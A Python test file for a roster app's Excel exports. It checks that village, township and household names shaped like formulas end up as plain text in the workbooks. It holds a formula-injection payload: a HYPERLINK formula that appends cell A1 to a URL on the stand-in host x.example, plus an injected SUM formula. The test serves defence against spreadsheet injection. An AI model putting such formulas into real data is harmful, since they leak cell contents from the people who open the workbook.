"""Names that look like formulas reach the exports as text: no workbook runs what a roster
file put in a village, township or household name."""

from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook
from sqlalchemy import update

from app.report_xlsx import dunning_xlsx, progress_xlsx
from app.reports import workspace_progress
from app.unpaid import workspace_dunning
from app.workspace import Workspace
from db.models import Household, Township, Village

ATTACK = '=HYPERLINK("http://x.example/"&A1,"点此")'


def formulas(book: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def test_formula_like_names_are_written_as_text(demo_workspace: Workspace) -> None:
    with demo_workspace.db.sessions.begin() as session:
        session.execute(update(Village).values(name=ATTACK))
        session.execute(update(Township).values(name="+SUM(A1:A9)"))
        session.execute(
            update(Household).where(Household.id < 50).values(number="=" + Household.number)
        )
    progress = workspace_progress(demo_workspace)
    dunning = workspace_dunning(demo_workspace)
    for book in (progress_xlsx(progress), dunning_xlsx(dunning)):
        assert formulas(book) == []
        workbook = load_workbook(io.BytesIO(book))
        texts = {
            cell.value
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if isinstance(cell.value, str)
        }
        assert any(ATTACK in text for text in texts)  # shown as it is, as text
